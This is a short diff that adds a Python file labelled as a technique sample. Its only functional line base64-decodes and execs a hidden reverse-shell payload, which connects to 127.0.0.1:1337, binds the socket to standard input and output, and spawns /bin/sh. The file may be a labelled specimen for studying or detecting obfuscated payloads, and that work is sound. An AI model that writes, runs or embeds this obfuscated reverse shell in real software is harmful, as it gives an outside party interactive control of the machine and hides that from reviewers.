@@ -1,0 +1,3 @@
+# technique: single-layer base64 decode of a reverse-shell payload passed to exec
+import base64
+exec(base64.b64decode("aW1wb3J0IHNvY2tldCxvcyxwdHk7cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTI3LjAuMC4xIiwxMzM3KSk7W29zLmR1cDIocy5maWxlbm8oKSxmKSBmb3IgZiBpbiAoMCwxLDIpXTtwdHkuc3Bhd24oIi9iaW4vc2giKQ=="))
